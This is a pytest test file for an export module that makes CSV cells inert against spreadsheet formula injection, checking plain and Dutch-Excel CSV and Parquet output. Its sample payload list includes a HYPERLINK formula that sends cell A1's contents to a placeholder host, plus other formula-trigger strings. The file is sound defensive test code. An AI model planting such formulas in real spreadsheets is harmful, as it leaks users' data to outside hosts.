"""CSV injection: a text cell that a spreadsheet would run as a formula is made inert in every CSV for
people (app/exports/cells.py); numbers and ordinary text are untouched; Parquet keeps the text as is."""

import csv
import io

import pandas as pd
import pyarrow.parquet as pq
import pytest

from app.exports import cells, tables
from app.exports import office as office_exports

FORMULAS = ['=HYPERLINK("https://x.example/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_gets_a_leading_apostrophe(text):
    assert cells.inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Printer kapot", "'s-Hertogenbosch", "", -5, 3.5, None, "Lijst 1 = goed"])
def test_ordinary_text_and_numbers_are_unchanged(value):
    assert cells.inert(value) == value


def test_table_exports_make_formulas_inert_in_csv_but_keep_them_in_parquet():
    frame = pd.DataFrame(
        {"naam": ["=1+1", "Stadhuis", None], "stemmen": [-3, 5, 7], "aandeel": [-1.5, 2.0, 0.0]}
    )
    plain = list(csv.reader(io.StringIO(tables.to_csv(frame).decode())))
    assert plain[1] == ["'=1+1", "-3", "-1.5"] and plain[2][0] == "Stadhuis" and plain[3][0] == ""
    excel = list(csv.reader(io.StringIO(tables.to_csv_excel_nl(frame).decode("utf-8-sig")), delimiter=";"))
    assert excel[1] == ["'=1+1", "-3", "-1,5"]
    assert frame["naam"][0] == "=1+1"  # the frame shown is not changed
    back = pq.read_table(io.BytesIO(tables.to_parquet(frame))).to_pandas()
    assert back["naam"][0] == "=1+1"


@pytest.mark.parametrize("fmt", ["csv", "csv-nl"])
def test_office_exports_make_a_chairs_formula_inert(fmt):
    rows = [{"incident_id": 1, "description": FORMULAS[0], "station_number": -1}]
    data = office_exports.to_csv(["incident_id", "description", "station_number"], rows, fmt)
    text = data.decode("utf-8-sig" if fmt == "csv-nl" else "utf-8")
    [_, row] = list(csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv-nl" else ","))
    assert row == ["1", "'" + FORMULAS[0], "-1"]
